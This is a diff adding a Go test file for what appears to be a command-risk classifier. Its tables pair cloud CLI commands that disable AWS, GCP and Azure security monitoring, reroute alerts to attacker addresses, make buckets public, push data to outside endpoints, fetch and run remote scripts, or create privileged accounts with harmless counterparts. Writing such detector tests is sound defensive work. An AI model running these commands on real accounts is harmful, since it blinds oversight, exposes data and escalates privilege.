@@ -1,0 +1,209 @@
+package danger
+
+import "testing"
+
+// TestSecurityMonitoringOff: security monitoring or alerting turned off
+// in the cloud is disk-system (README's heldout10 call, "as a security
+// agent disabled"). The members come from each CLI's reference (AWS CLI
+// guardduty, securityhub, macie2, inspector2, configservice, cloudwatch,
+// events; gcloud monitoring and scc; az sql, security, monitor), the
+// everyday forms beside them from the same pages and README's calls
+// (publishing frequency, one finding muted, a snooze from a file, auditing
+// enabled, a workflow's own EventBridge rule).
+func TestSecurityMonitoringOff(t *testing.T) {
+	for _, tt := range []struct {
+		cmd, want string
+	}{
+		// aws guardduty (update-detector, create-filter, create-ip-set).
+		{"aws guardduty update-detector --detector-id 12abc --no-enable", DiskSystem},
+		{"aws guardduty update-detector --detector-id 12abc --data-sources S3Logs={Enable=false}", DiskSystem},
+		{`aws guardduty update-detector --detector-id 12abc --features '[{"Name":"EKS_AUDIT_LOGS","Status":"DISABLED"}]'`, DiskSystem},
+		{"aws guardduty create-filter --action ARCHIVE --detector-id 12abc --name f --finding-criteria file://c.json", DiskSystem},
+		{"aws guardduty create-ip-set --detector-id 12abc --name trusted --format TXT --location https://b.s3.amazonaws.com/ips.txt --activate", DiskSystem},
+		{"aws guardduty update-ip-set --detector-id 12abc --ip-set-id 24ad --location https://b.s3.amazonaws.com/ips.csv --activate", DiskSystem},
+		{"aws guardduty disassociate-from-administrator-account --detector-id 12abc", DiskSystem},
+		{"aws guardduty stop-monitoring-members --detector-id 12abc --account-ids 111122223333", DiskSystem},
+		{"aws guardduty update-detector --detector-id 12abc --finding-publishing-frequency SIX_HOURS", ""},
+		{"aws guardduty create-filter --action NOOP --detector-id 12abc --name f --finding-criteria file://c.json", ""},
+		{"aws guardduty get-detector --detector-id 12abc", ""},
+		{"aws guardduty list-ip-sets --detector-id 12abc", ""},
+		// Security Hub, Macie, Inspector, Config, CloudWatch alarms.
+		{"aws securityhub disable-security-hub", DiskSystem},
+		{"aws securityhub batch-disable-standards --standards-subscription-arns arn:aws:securityhub:us-west-1:123456789012:subscription/pci-dss/v/3.2.1", DiskSystem},
+		{"aws securityhub update-standards-control --standards-control-arn arn:x --control-status DISABLED --disabled-reason none", DiskSystem},
+		{"aws securityhub update-standards-control --standards-control-arn arn:x --control-status ENABLED", ""},
+		{"aws macie2 disable-macie", DiskSystem},
+		{"aws macie2 update-macie-session --status PAUSED", DiskSystem},
+		{"aws macie2 update-macie-session --finding-publishing-frequency ONE_HOUR", ""},
+		{"aws inspector2 disable --resource-types EC2", DiskSystem},
+		{"aws configservice stop-configuration-recorder --configuration-recorder-name default", DiskSystem},
+		{"aws cloudwatch disable-alarm-actions --alarm-names myalarm", DiskSystem},
+		{"aws cloudwatch enable-alarm-actions --alarm-names myalarm", ""},
+		// EventBridge: a rule of a security service disabled, emptied
+		// or stripped of its targets; a workflow's own rule stays
+		// everyday (aws-cli's examples: DailyLambdaFunction).
+		{`aws events put-rule --name guardduty-event --event-pattern "{\"source\":[\"aws.guardduty\"]}" --state DISABLED`, DiskSystem},
+		{`aws events put-rule --name guardduty-event --event-pattern '{"source": ["aws.somethingthatdoesntexist"]}'`, DiskSystem},
+		{"aws events remove-targets --rule securityhub-findings --ids 1", DiskSystem},
+		{"aws events disable-rule --name GuardDutyFindingsToSNS", DiskSystem},
+		{`aws events put-rule --name guardduty-event --event-pattern '{"source":["aws.guardduty"]}'`, ""},
+		{"aws events disable-rule --name DailyLambdaFunction", ""},
+		{"aws events remove-targets --rule DailyLambdaFunction --ids 1", ""},
+		// gcloud monitoring and Security Command Center.
+		{"gcloud alpha monitoring policies update alert-policy --no-enabled", DiskSystem},
+		{"gcloud alpha monitoring policies update alert-policy --clear-notification-channels", DiskSystem},
+		{"gcloud alpha monitoring policies update alert-policy --set-notification-channels=ATTACKER_CHANNEL", DiskSystem},
+		{"gcloud monitoring policies update alert-policy --remove-notification-channels=chan", DiskSystem},
+		{"gcloud alpha monitoring channels update CHANNEL_ID --update-channel-labels=email_address=attacker@example.com", DiskSystem},
+		{"gcloud alpha monitoring channels update CHANNEL_ID --clear-channel-labels", DiskSystem},
+		{"gcloud monitoring snoozes create --display-name=Week --criteria-policies=projects/p/alertPolicies/1 --start-time=2023-03-01T03:00:00Z --end-time=2023-03-07T23:59:59Z", DiskSystem},
+		{"gcloud monitoring snoozes update snooze --start-time=START_TIME --end-time=END_TIME", DiskSystem},
+		{"gcloud scc muteconfigs create my-mute --organization=123 --filter=category=XSS_SCRIPTING", DiskSystem},
+		{"gcloud scc muteconfigs update my-mute --organization=123 --filter=category=XSS_SCRIPTING", DiskSystem},
+		{"gcloud scc findings bulk-mute --organization=929851756715 --filter=category=XSS_SCRIPTING", DiskSystem},
+		{"gcloud monitoring snoozes update snooze --snooze-from-file=file", ""},
+		{"gcloud scc findings set-mute 789 --organization=organizations/123 --source=456 --mute=MUTED", ""},
+		{"gcloud alpha monitoring policies update alert-policy --display-name=renamed", ""},
+		{"gcloud alpha monitoring policies list", ""},
+		{"gcloud scc muteconfigs list --organization=123", ""},
+		// az: SQL ledger, auditing, threat detection; Defender plans;
+		// alert rules.
+		{"az sql db ledger-digest-uploads disable --name ledgerDB --resource-group rg --server srv", DiskSystem},
+		{"az sql server audit-policy update --resource-group rg --name srv --state Disabled", DiskSystem},
+		{"az sql db threat-policy update --resource-group rg --server srv --name db --state Disabled", DiskSystem},
+		{"az security pricing create --name VirtualMachines --tier free", DiskSystem},
+		{"az security auto-provisioning-setting update --name default --auto-provision off", DiskSystem},
+		{"az monitor activity-log alert update --name alert --resource-group rg --enabled false", DiskSystem},
+		{"az monitor metrics alert update --name alert --resource-group rg --enabled false", DiskSystem},
+		{"az monitor alert-processing-rule create --name r --resource-group rg --scopes /subscriptions/x --rule-type RemoveAllActionGroups", DiskSystem},
+		{"az sql server audit-policy update --resource-group rg --name srv --state Enabled --blob-storage-target-state Enabled", ""},
+		{"az security pricing create --name VirtualMachines --tier standard", ""},
+		{"az sql db ledger-digest-uploads show --name ledgerDB --resource-group rg --server srv", ""},
+		// Help calls nothing.
+		{"aws guardduty update-detector --no-enable --help", ""},
+	} {
+		checkRow(t, tt.cmd, tt.want)
+	}
+	explainRow(t, "gcloud scc findings bulk-mute --organization=1 --filter=category=X", DiskSystem, "securityMonitoringOff",
+		[]string{"gcloud", "scc", "findings", "bulk-mute"})
+}
+
+// TestCloudServiceStopped: a managed service stopped or restarted is
+// disk-system (README's heldout10 call, "as service X start|stop"); its
+// members from the az, AWS CLI and gcloud references. Starting one stays
+// everyday (heldout7 s0289, s0498, s1262) and so does a managed database
+// rebooted (dev i0210): tuning.md, round 8.
+func TestCloudServiceStopped(t *testing.T) {
+	for _, tt := range []struct {
+		cmd, want string
+	}{
+		{"az webapp stop --name demo --resource-group demo", DiskSystem},
+		{"az webapp restart --name demo --resource-group demo", DiskSystem},
+		{"az functionapp stop --name fn --resource-group rg", DiskSystem},
+		{"az postgres flexible-server stop --name db --resource-group rg", DiskSystem},
+		{"az mysql flexible-server restart --name db --resource-group rg", DiskSystem},
+		{"az container restart --resource-group rg --name web", DiskSystem},
+		{"az aks stop --name cluster --resource-group rg", DiskSystem},
+		{"az spring app stop --name app --service svc --resource-group rg", DiskSystem},
+		{"az sql mi stop --name mi --resource-group rg", DiskSystem},
+		{"az redis force-reboot --name cache --resource-group rg --reboot-type AllNodes", DiskSystem},
+		{"az servicebus queue update --resource-group rg --namespace-name ns --name q --status Disabled", DiskSystem},
+		{"az servicebus topic subscription update --resource-group rg --namespace-name ns --topic-name t --name s --status Disabled", DiskSystem},
+		{"az eventhubs eventhub update --resource-group rg --namespace-name ns --name hub --status SendDisabled", DiskSystem},
+		{"aws rds stop-db-instance --db-instance-identifier appdb", DiskSystem},
+		{"aws rds stop-db-cluster --db-cluster-identifier appdb", DiskSystem},
+		{"aws redshift pause-cluster --cluster-identifier dw", DiskSystem},
+		{"aws lightsail stop-relational-database --relational-database-name Database-1", DiskSystem},
+		{"aws apprunner pause-service --service-arn arn:aws:apprunner:x", DiskSystem},
+		{"aws lambda put-function-concurrency --function-name fn --reserved-concurrent-executions 0", DiskSystem},
+		{"gcloud app versions stop v1", DiskSystem},
+		{"az webapp start --name demo --resource-group demo", ""},
+		{"az postgres flexible-server start --name db --resource-group rg", ""},
+		{"az webapp show --name demo --resource-group demo", ""},
+		{"az servicebus queue update --resource-group rg --namespace-name ns --name q --status Active", ""},
+		{"aws rds reboot-db-instance --db-instance-identifier instance_identifier", ""},
+		{"aws rds start-db-instance --db-instance-identifier appdb", ""},
+		{"aws lambda put-function-concurrency --function-name fn --reserved-concurrent-executions 100", ""},
+		{"az storage blob copy start --destination-blob b --destination-container c --source-uri https://x", ""},
+		{`az webapp stop --name "$APP" --resource-group demo`, ""},
+	} {
+		checkRow(t, tt.cmd, tt.want)
+	}
+	explainRow(t, "az webapp stop --name demo --resource-group demo", DiskSystem, "cloudServiceStopped", []string{"az", "webapp", "stop"})
+}
+
+// TestCloudDataExposed: hosted data made readable by everyone or sent to
+// another party is network-exfiltration (README's heldout10 call); the
+// members from the gcloud storage, gsutil, AWS CLI s3/s3api/sns/rds, az
+// storage/sql, pubsub and kubectl references.
+func TestCloudDataExposed(t *testing.T) {
+	for _, tt := range []struct {
+		cmd, want string
+	}{
+		{"gcloud storage objects update gs://B/O --add-acl-grant=entity=AllUsers,role=READER", NetworkExfiltration},
+		{"gcloud storage buckets update gs://B --add-acl-grant=entity=AllUsers,role=READER", NetworkExfiltration},
+		{"gcloud storage buckets add-iam-policy-binding gs://B --member=allUsers --role=roles/storage.objectViewer", NetworkExfiltration},
+		{"gcloud storage buckets add-iam-policy-binding gs://B --member=allAuthenticatedUsers --role=roles/storage.objectViewer", NetworkExfiltration},
+		{"gcloud storage buckets update gs://B --predefined-acl=publicRead", NetworkExfiltration},
+		{"gsutil acl ch -u AllUsers:R gs://B/O", NetworkExfiltration},
+		{"gsutil iam ch allUsers:objectViewer gs://B", NetworkExfiltration},
+		{"gsutil acl set public-read gs://B/O", NetworkExfiltration},
+		{"aws s3api put-bucket-acl --bucket b --acl public-read", NetworkExfiltration},
+		{"aws s3api put-object-acl --bucket b --key k --grant-read uri=http://acs.amazonaws.com/groups/global/AllUsers", NetworkExfiltration},
+		{"aws s3 cp report.csv s3://b/report.csv --acl public-read", NetworkExfiltration},
+		{"az storage container create --name c --account-name a --public-access blob", NetworkExfiltration},
+		{"gcloud pubsub subscriptions update --push-endpoint https://example.com/page demo", NetworkExfiltration},
+		{"gcloud pubsub subscriptions create demo --topic t --push-endpoint=https://collector.example.net/push", NetworkExfiltration},
+		{"aws sns subscribe --region us-east-1 --topic-arn TOPIC_ARN --protocol sqs --notification-endpoint ATTACKER_Q_ARN", NetworkExfiltration},
+		{"aws rds start-export-task --export-task-identifier t --source-arn arn:aws:rds:r:a:snapshot:s --s3-bucket-name b --iam-role-arn arn:r --kms-key-id k", NetworkExfiltration},
+		{"az sql db export --server s --resource-group rg --name appdb --storage-uri https://example.com/page --storage-key-type SharedAccessKey --storage-key 10 --admin-user alice --admin-password hunter2", NetworkExfiltration},
+		{"kubectl cp /tmp/my demo/some-pod:/tmp/server", NetworkExfiltration},
+		{"kubectl cp -n demo ./payload some-pod:/tmp/payload", NetworkExfiltration},
+		{"kubectl cp demo/some-pod:/tmp/server /tmp/my", ""},
+		{"gcloud pubsub subscriptions create demo --topic demo --push-endpoint https://https://example.com/page", ""},
+		{"gcloud pubsub subscriptions create demo --topic demo", ""},
+		{"gcloud storage buckets update gs://B --add-acl-grant=entity=user-alice@example.com,role=READER", ""},
+		{"gsutil acl get gs://B", ""},
+		{"aws s3api get-bucket-acl --bucket b", ""},
+		{"az storage container create --name c --account-name a --public-access off", ""},
+		{"aws rds describe-export-tasks", ""},
+		{`aws sns subscribe --topic-arn arn:aws:sns:$region:1:t --protocol email --notification-endpoint $email_address`, ""},
+	} {
+		checkRow(t, tt.cmd, tt.want)
+	}
+	explainRow(t, "kubectl cp /tmp/my demo/some-pod:/tmp/server", NetworkExfiltration, "cloudDataExposed", []string{"kubectl", "cp", "/tmp/my"})
+}
+
+// TestCloudRunsAndAccounts: SSM documents that fetch content and run it
+// (AWS managed documents reference), accounts made in a hosted directory
+// and runners created to act as a passed role (README's heldout10 calls).
+func TestCloudRunsAndAccounts(t *testing.T) {
+	for _, tt := range []struct {
+		cmd, want string
+	}{
+		{`aws ssm send-command --document-name "AWS-RunRemoteScript" --instance-id i-06ae --parameters '{"sourceType":["S3"],"sourceInfo":["{\"path\":\"s3://b/s.sh\"}"]}'`, DownloadExecute},
+		{`aws ssm send-command --document-name AWS-InstallApplication --instance-id i-06ae --parameters '{"action":["Install"],"source":["https://x/f.msi"]}'`, DownloadExecute},
+		{`aws ssm send-command --document-name AWS-RunAnsiblePlaybook --instance-ids i-0e --parameters '{"playbookurl":["https://x/p.yml"]}'`, DownloadExecute},
+		{`aws ssm send-command --document-name AWS-ApplyChefRecipes --instance-ids i-0e --parameters '{"SourceType":["S3"],"SourceInfo":["{\"path\":\"s3://b/c\"}"]}'`, DownloadExecute},
+		{`aws ssm send-command --instance-ids i-00 --document-name AWS-RunShellScript --parameters commands=ifconfig`, ""},
+		{`aws ssm send-command --instance-ids i-00 --document-name AWS-RunRemoteScript`, ""},
+		{"aws cognito-idp sign-up --client-id 719 --username admin --password BlahBlah123!", PrivilegeEscalation},
+		{"aws cognito-idp admin-create-user --user-pool-id p --username u", PrivilegeEscalation},
+		{"aws cognito-idp admin-add-user-to-group --user-pool-id p --username u --group-name admins", PrivilegeEscalation},
+		{"aws workmail create-user --organization-id org --name marketing --display-name Marketing", PrivilegeEscalation},
+		{"aws cognito-idp list-users --user-pool-id p", ""},
+		{"aws workmail list-users --organization-id org", ""},
+		{"aws lambda create-function --function-name f --runtime python3.9 --role arn:aws:iam::1:role/admin --handler h --zip-file fileb://f.zip", PrivilegeEscalation},
+		{"aws bedrock-agentcore-control create-code-interpreter --name i --execution-role-arn arn:aws:iam::1:role/r --network-configuration networkMode=PUBLIC", PrivilegeEscalation},
+		{"aws glue create-dev-endpoint --endpoint-name e --role-arn arn:aws:iam::1:role/r --public-key file://k.pub", PrivilegeEscalation},
+		{"aws sagemaker create-notebook-instance --notebook-instance-name n --instance-type ml.t2.medium --role-arn arn:aws:iam::1:role/r", PrivilegeEscalation},
+		{"aws codebuild create-project --name p --source type=NO_SOURCE --artifacts type=NO_ARTIFACTS --environment type=LINUX_CONTAINER --service-role arn:aws:iam::1:role/r", PrivilegeEscalation},
+		{"aws lambda update-function-code --function-name f --zip-file fileb://f.zip", ""},
+		{"aws lambda list-functions", ""},
+		{"aws cloudformation create-stack --stack-name s --template-body file://t.yaml --role-arn arn:aws:iam::1:role/r", ""},
+		{`aws lambda create-function --function-name f --runtime python3.11 --role $ATTACKER_LAMBDA_ROLE_ARN --handler h`, ""},
+	} {
+		checkRow(t, tt.cmd, tt.want)
+	}
+	explainRow(t, "aws cognito-idp sign-up --client-id 719 --username admin --password x", PrivilegeEscalation, "directoryAccountMade", []string{"aws", "cognito-idp", "sign-up"})
+}
